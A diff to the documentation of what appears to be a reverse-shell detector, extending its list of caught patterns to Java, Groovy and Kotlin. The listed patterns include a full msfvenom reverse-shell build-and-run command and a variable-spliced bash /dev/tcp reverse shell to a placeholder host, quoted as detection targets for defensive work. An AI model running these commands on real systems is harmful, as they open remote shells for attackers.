@@ -12,10 +12,11 @@ What it catches
     `<$sock>`), Ruby (`spawn` with `[:in, :out, :err] => s`, `$stdin.reopen(s)`, `IO.popen`,
     backticks over `gets`), PHP (`proc_open`, `popen`, `shell_exec(fgets($sock))`), Node
     (`net.connect` piped into `child_process`, `stdio: [s, s, s]`, `exec` on `'data'`), Lua, Go,
-    C/C++ (POSIX and Winsock), PowerShell `TcpClient` with `iex` or a redirected `Process`,
-    `xterm -display`. Also a payload generator's remote-shell payload built and run on the same
-    command line (`msfvenom -p linux/x64/shell_reverse_tcp LHOST=... -o p && ./p`): running it
-    opens the shell. A command line glued together from variables that hold its pieces
+    C/C++ (POSIX and Winsock), Java, Groovy and Kotlin (a started process's streams copied both
+    ways to a socket's: `pumped_streams.py`), PowerShell `TcpClient` with `iex` or a redirected
+    `Process`, `xterm -display`. Also a payload generator's remote-shell payload built and run
+    on the same command line (`msfvenom -p linux/x64/shell_reverse_tcp LHOST=... -o p && ./p`):
+    running it opens the shell. A command line glued together from variables that hold its pieces
     (`a=ba;b=sh;c=/dev/tc;d=p/HOST/443;$a$b -i >& $c$d 0>&1`) is read spelled out
     (`spliced.py`).
 
